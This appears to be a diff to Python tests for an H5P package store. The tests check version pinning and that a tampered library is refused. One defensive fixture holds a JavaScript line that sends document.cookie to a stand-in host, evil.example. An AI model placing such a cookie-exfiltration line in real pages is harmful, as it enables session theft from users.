@@ -14,6 +14,7 @@ from courses.h5p.services import (
     h5p_package_delete,
     h5p_package_store,
 )
+from courses.h5p.validation import H5PValidationError
 from tests.factories import UserFactory
 
 from .packages import h5p_zip, stored_files, valid_files, valid_package
@@ -67,11 +68,35 @@ def test_a_second_package_reuses_the_libraries_already_stored(media_root):
     assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
 
 
-def test_a_newer_patch_is_played_by_every_package_of_that_minor_version(media_root):
+def test_each_package_keeps_the_exact_versions_it_was_validated_with(media_root):
     old = h5p_package_store(file=valid_package(test_patch=3))
-    h5p_package_store(file=valid_package(title="Newer", test_patch=5))
+    newer = h5p_package_store(file=valid_package(title="Newer", test_patch=5))
     assert H5PLibrary.objects.filter(machine_name="H5P.Test").count() == 2
-    assert h5p_libraries_resolve(package=old)["H5P.Test-1.0"].patch == 5
+    assert h5p_libraries_resolve(package=old)["H5P.Test-1.0"].patch == 3
+    assert h5p_libraries_resolve(package=newer)["H5P.Test-1.0"].patch == 5
+
+
+def test_the_same_version_with_other_files_is_refused_and_the_stored_one_untouched(media_root):
+    h5p_package_store(file=valid_package(test_patch=3))
+    stored = media_root / "h5p/libraries/H5P.Test-1.0.3/scripts/test.js"
+    before = stored.read_bytes()
+    files = valid_files(title="Hostile", test_patch=3)
+    files["H5P.Test-1.0/scripts/test.js"] = "fetch('https://evil.example/' + document.cookie);"
+    with translation.override("fr"), pytest.raises(H5PValidationError) as refused:
+        h5p_package_store(file=h5p_zip(files))
+    assert refused.value.code == "library_changed"
+    assert "H5P.Test 1.0.3" in refused.value.message
+    assert stored.read_bytes() == before
+    assert H5PPackage.objects.count() == 1
+
+
+def test_the_same_version_with_the_same_files_in_another_package_is_shared(media_root):
+    h5p_package_store(file=valid_package(test_patch=3))
+    files = valid_files(title="Other", test_patch=3)
+    files["content/content.json"] = json.dumps({"question": "Autre ?"})
+    other = h5p_package_store(file=h5p_zip(files))
+    assert H5PLibrary.objects.count() == 2
+    assert other.libraries.count() == 2
 
 
 def test_a_failure_while_writing_leaves_no_file_and_no_row(media_root, monkeypatch):
